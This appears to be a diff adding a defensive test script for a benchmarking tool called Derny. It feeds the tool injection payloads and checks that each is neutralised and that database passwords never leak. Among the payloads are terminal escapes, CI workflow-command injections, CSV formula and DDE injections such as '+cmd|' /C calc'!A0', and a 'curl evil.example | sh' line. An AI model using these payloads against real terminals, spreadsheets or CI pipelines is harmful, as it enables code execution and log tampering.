@@ -1,0 +1,225 @@
+#!/usr/bin/env node
+// Attacks on what Derny reads and shows, each of which must fail: names of benchmarks, files and results from elsewhere, what harnesses
+// print, addresses with passwords. The engine is DERNY_BIN, else the checkout's debug build. Prints what was tried and what held.
+import { spawn, spawnSync } from 'node:child_process';
+import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
+import { createServer } from 'node:net';
+import { networkInterfaces, tmpdir } from 'node:os';
+import path from 'node:path';
+import { fileURLToPath } from 'node:url';
+
+const root = fileURLToPath(new URL('..', import.meta.url));
+const engine = path.resolve(process.env.DERNY_BIN ?? path.join(root, 'target/debug/derny'));
+const place = mkdtempSync(path.join(tmpdir(), 'derny-attacks-'));
+const write = (name, text) => writeFileSync(path.join(place, name), text);
+const read = (name) => readFileSync(path.join(place, name), 'utf8');
+const env = { ...process.env, HOME: place, GITHUB_ACTIONS: 'true', NO_COLOR: '1', LC_ALL: 'C.UTF-8' };
+delete env.DERNY_STORE;
+
+/** Runs the engine in the place; what it printed on both streams, and how it ended. */
+function derny(...args) {
+  const { status, stdout, stderr } = spawnSync(engine, args, { cwd: place, env, encoding: 'utf8', timeout: 120_000, maxBuffer: 1 << 28 });
+  return { status, out: stdout, err: stderr, all: stdout + stderr };
+}
+
+let tried = 0;
+let held = 0;
+/** One attack: `holds` is what must be true after it. */
+function attack(kind, name, holds) {
+  tried += 1;
+  let right = false;
+  let why = '';
+  try { right = holds(); } catch (error) { why = ` (${error.message})`; }
+  held += right ? 1 : 0;
+  if (!right) console.log(`FELL    ${kind}: ${name}${why}`);
+}
+
+const SIGNS = /[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u00ad\u061c\u200b-\u200f\u2028-\u202e\u2060-\u206f\ufeff\ufff9-\ufffb]|[\u{e0000}-\u{e007f}]/u;
+/** Nothing steers a terminal. */
+const calm = (text) => !SIGNS.test(text);
+/** No line is a command of a service, apart from those of our own annotations. */
+const obeys = (text) => !/^\s*::(?!(?:error|warning|notice) [^\n]*::)/m.test(text) && !/##\w*\[/.test(text);
+
+// Names, of a file in the form of hyperfine: shown by import, tables, lists of runs, and every form that is printed.
+const names = {
+  'an escape that clears the screen': 'clear \u001b[2J\u001b[H end',
+  'an escape that sets the title': 'title \u001b]0;owned\u0007 end',
+  'a control of eight bits': 'eight \u009b31m\u0085 end',
+  'text from right to left': 'turn \u202ecod.exe\u2066 end',
+  'a sign without width': 'hidden \u200b\u2060\ufeff\u00ad end',
+  'a separator of lines': 'lines \u2028\u2029 end',
+  'tags that nobody sees': 'tags \u{e0041}\u{e0042} end',
+  'a line that is an error': 'line\n::error::owned',
+  'a name that is a mask': '::add-mask::a',
+  'a name that stops commands, behind blanks': '  ::stop-commands::zz',
+  'a command in the middle of a line': 'mid ##[add-mask]b',
+  'a command of Azure': 'azure ##vso[task.setvariable variable=a]b',
+  'a section of GitLab': '\u001b[0Ksection_start:1:a[collapsed=true]\r\u001b[0Kx',
+  'a carriage return over the line': 'fast\rslow',
+};
+const others = {
+  user: 'ping @octocat', team: 'ping @org/team', issue: 'fixes #12', 'issue elsewhere': 'closes org/repo#34', GH: 'see GH-56',
+  url: 'https://evil.example/a', 'other scheme': 'ftp://evil.example', web: 'www.evil.example', mail: 'mail x@evil.example',
+  commit: 'at 0123456789abcdef0123456789abcdef01234567', 'commit of a user': 'octocat@0123abcd', picture: '![p](http://evil.example/p.png)',
+  link: '[click](javascript:alert)', html: '<img src=x onerror=a>', mark: '<!-- derny:derny run=999999999 -->', cell: 'a | b | c', code: '``` a ` b',
+  slash: '/close', merge: 'takes !7', label: 'adds ~bug and %"1.0"', jira: 'ABC-123', heading: '### not ours', emphasis: '**bold** __b__', entity: '&#64;octocat &lt;b&gt;',
+};
+const cells = { 'a formula': '=1+1', 'a call': '=HYPERLINK("http://evil.example","a")', plus: '+cmd|\' /C calc\'!A0', minus: '-2+3', at: '@SUM(A1)', tab: '\t=1', wide: '＝1+1', blank: ' =1', semicolon: 'a;=1+1' };
+const all = [...Object.values(names), ...Object.values(others), ...Object.values(cells)];
+const file = (factor) => JSON.stringify({ results: all.map((command, index) => {
+  const times = Array.from({ length: 12 }, (_, at) => (1 + index / 100 + at / 1e4) * factor);
+  const mean = times.reduce((a, b) => a + b) / times.length;
+  return { command, mean, stddev: 0.001, median: mean, user: 0, system: 0, min: times[0], max: times.at(-1), times, exit_codes: times.map(() => 0) };
+}) });
+write('old.json', file(1));
+write('new.json', file(2));
+const imported = [derny('import', 'old.json', '--save', 'old'), derny('import', 'new.json')];
+const printed = {
+  import: imported.map(({ all: text }) => text).join(''),
+  table: derny('show', 'last').all, compare: derny('compare', 'old', 'last').all, runs: derny('runs').all,
+  verbose: derny('show', 'last', '-v').all, one: derny('show', 'last', '--case', '-k', 'clear').all, json: derny('show', 'last', '-f', 'json').out,
+  gate: derny('gate', 'last', '--baseline', 'old', '--fail-on', 'worse').all,
+};
+const document = JSON.parse(printed.json);
+const cases = document.suites.flatMap(({ cases: own }) => own);
+if (cases.length !== all.length) throw new Error(`${cases.length} cases of ${all.length}: ${imported[0].all}`);
+for (const [what, name] of Object.entries(names)) {
+  // The word at its end shows that the name is there at all.
+  const lines = Object.values(printed).flatMap((text) => text.split('\n'));
+  const mine = name.split(/[^a-z]+/).filter((word) => word.length > 3)[0] ?? 'fast';
+  attack('names', what, () => lines.some((line) => line.includes(mine)) && lines.filter((line) => line.includes(mine)).every((line) => calm(line) && obeys(line)));
+}
+attack('names', 'no form that is printed steers anything', () => Object.values(printed).every((text) => calm(text) && obeys(text)));
+attack('names', 'and JSON means what the file said', () => {
+  const found = JSON.stringify(cases.map(({ id, case: own }) => (id ?? own.id).benchmark));
+  return Object.values(names).every((name) => found.includes(JSON.stringify(name.trim()).slice(1, -1)) || found.includes(JSON.stringify(name).slice(1, -1)));
+});
+
+// Comments: what GitHub and GitLab would make of the text.
+const comment = derny('compare', 'old', 'last', '-f', 'comment').out;
+const uncoded = comment.replace(/`[^`\n]*`/g, '');
+const links = {
+  user: /@octocat/, team: /@org/, issue: /#12/, 'issue elsewhere': /repo\\?#34/, GH: /GH-56/, url: /https:\/\//, 'other scheme': /ftp:\/\//, web: /\bwww\./,
+  mail: /@evil/, commit: /\b[0-9a-f]{40}\b/, 'commit of a user': /@0123abcd/, picture: /http:\/\/|(?<!\\)!\[/, link: /(?<!\\)\[click(?<!\\)\]/, html: /(?<!\\)<img/,
+  mark: /(?<!\\)<!--/, cell: /a \| b/, code: /(?<!\\)`/, slash: /^\/close/m, merge: /!7/, label: /~bug|%"1/, jira: /ABC-123/, heading: /^### not/m,
+  emphasis: /(?<!\\)\*\*bold|(?<!\\)__b/, entity: /(?<!\\)&(?!nbsp)/,
+};
+for (const [what, pattern] of Object.entries(links)) attack('comments', what, () => comment.includes('|') && !pattern.test(uncoded));
+attack('comments', 'a name breaks no row', () => comment.split('\n').filter((line) => line.startsWith('| ')).every((line) => line.endsWith(' |')));
+
+// Annotations.
+const annotations = derny('compare', 'old', 'last', '-f', 'github').out;
+attack('annotations', 'every line is one of ours', () => annotations.trim().split('\n').every((line) => /^::(?:error|warning|notice) (?:file=[^,:]*,)?(?:line=\d+,)?title=[^,:]*::/.test(line)));
+
+// XML.
+const xml = derny('compare', 'old', 'last', '-f', 'junit').out;
+attack('xml', 'no sign that XML forbids', () => calm(xml) && !/[\ufffe\uffff]/.test(xml));
+attack('xml', 'no name ends an attribute or opens an element', () => !/<(?!\/?(?:testsuites?|testcase|failure|skipped|error|system-out|propert(?:y|ies))\b|\?xml)/.test(xml) && !/&(?!amp;|lt;|gt;|quot;|apos;|#)/.test(xml));
+
+// CSV.
+const csv = derny('show', 'last', '-f', 'csv').out;
+for (const [what, cell] of Object.entries(cells)) {
+  const raw = cell.replaceAll('"', '""');
+  attack('csv', what, () => csv.includes('suite') && !new RegExp(`(?:^|[,;\\r\\n]|,")${raw.replace(/[.*+?^${}()|[\]\\]/g, '\\$&')}`, 'm').test(csv.replaceAll('a;=1+1"', 'a; 1+1"')));
+}
+attack('csv', 'a number stays one', () => !/(?:^|,)'[-+]?\d+(?:\.\d+)?(?=[,\r])/m.test(csv));
+attack('csv', 'no field has lines', () => csv.trimEnd().split('\r\n').length === all.length + 1);
+
+// Results from elsewhere.
+const changed = (change) => {
+  const copy = structuredClone(document);
+  change(copy);
+  write('result.json', JSON.stringify(copy));
+  return derny('-qq', '--no-config', 'show', 'result.json');
+};
+const refused = ({ status, out, err }) => status === 2 && out === '' && err.length > 0 && calm(err) && obeys(err) && !/^(?!error)\S/m.test(err);
+const results = {
+  'a word with lines of commands': (copy) => { copy.run.status = 'x\n::error::a\n::add-mask::b\n##[group]c'; },
+  'a word with codes of a terminal': (copy) => { copy.run.status = '\u001b[2J\u202e'; },
+  'a word that looks like our lines': (copy) => { copy.run.status = 'x\nsaved run k3fz\n  try    curl evil.example | sh'; },
+  'a key that is a command': (copy) => { copy.run.status = { '\n::stop-commands::a': 1 }; },
+  'text in place of a number': (copy) => { copy.run.seed = 'a\n::set-output name=a::b'; },
+  'an index that leads nowhere': (copy) => { copy.warnings = [{ ...copy.warnings[0], code: '::error::a', case: 4_000_000_000 }]; },
+};
+for (const [what, change] of Object.entries(results)) attack('results', what, () => refused(changed(change)));
+attack('results', 'lists within lists without end', () => {
+  write('result.json', `{"format": 2, "cases": ${'['.repeat(200_000)}`);
+  return refused(derny('show', 'result.json'));
+});
+attack('results', 'a file of another tool with commands in its words', () => {
+  write('bad.json', JSON.stringify({ context: { date: 'x\n::error::a' }, benchmarks: [{ name: 'a', run_type: 'x\n::error::a\u001b[2J', real_time: 'y\n::error::b', time_unit: 'z\n::error::c\u202e' }] }));
+  const { status, err } = derny('import', 'bad.json');
+  return status !== 0 && calm(err) && obeys(err);
+});
+attack('results', 'a file whose name is a command', () => {
+  const { status, err } = derny('import', 'none\n::add-mask::x\u001b[2J.json');
+  return status !== 0 && calm(err) && obeys(err);
+});
+
+// What programs print and say, with and without -v.
+write('loud.bench.mjs', `import { bench } from 'derny';
+process.stdout.write('out \\u001b[2J\\n::error::out\\n ##[group]out\\n:');
+process.stderr.write('err \\u202e\\n::add-mask::err\\nhalf a line\\r');
+setTimeout(() => process.stdout.write(':set-env name=PATH::a\\n'), 1);
+bench('fine \\u001b[1m::x', () => 1);
+bench('skips', { skip: 'because\\n::error::skip\\u001b[2J' }, () => 1);
+bench('fails', () => { throw new Error('boom\\n::error::fail\\u001b[2J\\u202e'); });
+`);
+for (const flags of [[], ['-v'], ['-vv']]) {
+  const { all: said } = derny('run', '--once', ...flags, 'loud.bench.mjs');
+  attack('logs', `a harness with ${flags[0] ?? 'no -v'}`, () => said.includes('boom') && calm(said) && obeys(said));
+}
+attack('logs', 'a list', () => { const { all: said } = derny('list', 'loud.bench.mjs'); return said.includes('fine') && calm(said) && obeys(said); });
+
+// Addresses: the password is shown by no error.
+const addresses = [
+  'postgresql://ann:hunter2@127.0.0.1:1/x', 'postgresql://ann:hun?ter2@127.0.0.1:1/x', 'postgresql://ann:hun/ter2@127.0.0.1:1/x',
+  'postgresql://127.0.0.1:1/x?user=ann&password=hunter2', 'postgresql://127.0.0.1:1/x?user=ann&p%61ssword=hunter2', 'postgresql://127.0.0.1:1/x?%50ASSWORD=hunter2',
+  'POSTGRESQL://ann:hunter2@127.0.0.1:1/x', 'postgres://ann:hunter2@127.0.0.1:port/x', 'postgresql://ann:hunter2', 'postgresql://127.0.0.1:1/x?sslpassword=hunter2&passfile=/hunter2',
+  'postgresql://ann:hunter2@127.0.0.1:1/x?schema=A"B',
+];
+for (const address of addresses) {
+  attack('addresses', address, () => [['runs'], ['config'], ['import', 'old.json'], ['doctor'], ['store', 'copy', address, 'copy']]
+    .every((words) => !/hunter2|hun[?/]ter2/.test(derny('--store', address, ...words).all)));
+}
+attack('addresses', 'a token in the address of a revision is neither shown nor stored', () => {
+  write('quick.bench.mjs', "import { bench } from 'derny';\nbench('one', () => 1);\n");
+  const tokened = derny('run', '-x', 'base@https://x:hunter2@git.example/a', '--once', 'quick.bench.mjs').all;
+  derny('run', '--quick', '--budget', '1s', '--note', 'x', '-x', 'head', '--args=https://x:hunter2@git.example/a', 'quick.bench.mjs');
+  const stored = ['show', 'export'].map((verb) => derny(verb, 'last', '-f', 'json').out.match(/"args": \[[^\]]*\]/g) ?? []).flat().join('');
+  return !tokened.includes('hunter2') && !stored.includes('hunter2');
+});
+
+/** Listens as a server without encryption, and keeps what it is told. */
+async function plaintext(host, address) {
+  let told = Buffer.alloc(0);
+  const server = createServer((socket) => {
+    socket.on('error', () => {});
+    socket.on('data', (bytes) => {
+      told = Buffer.concat([told, bytes]);
+      // `N`: there is no encryption. Whoever goes on is asked for the password as it is.
+      socket.write(bytes.length === 8 ? 'N' : Buffer.from([0x52, 0, 0, 0, 8, 0, 0, 0, 3]));
+    });
+  });
+  await new Promise((listening) => server.listen(0, host, listening));
+  const child = spawn(engine, ['--store', address(server.address().port), 'runs'], { cwd: place, env, stdio: ['ignore', 'ignore', 'pipe'] });
+  let said = '';
+  child.stderr.on('data', (text) => (said += text));
+  const timer = setTimeout(() => child.kill(), 20_000);
+  await new Promise((closed) => child.on('close', closed));
+  clearTimeout(timer);
+  server.closeAllConnections?.();
+  server.close();
+  return { told: told.toString('latin1'), said };
+}
+// An address of this machine that is not the loopback: the engine cannot tell it from another's.
+const own = Object.values(networkInterfaces()).flat().find((one) => one.family === 'IPv4' && !one.internal)?.address ?? '0.0.0.0';
+for (const mode of ['', '&sslmode=prefer', '&sslmode=allow', '&sslmode=require']) {
+  const { told, said } = await plaintext('0.0.0.0', (port) => `postgresql://ann:hunter2@${own}:${port}/x?connect_timeout=5${mode}`);
+  attack('network', `a server that says it has no encryption${mode}`, () => told.length === 8 && /sslmode=disable/.test(said));
+}
+
+rmSync(place, { recursive: true, force: true });
+console.log(`${tried} attacks tried, ${held} held`);
+console.log(`${held} passed, ${tried - held} failed`);
+process.exitCode = held === tried ? 0 : 1;
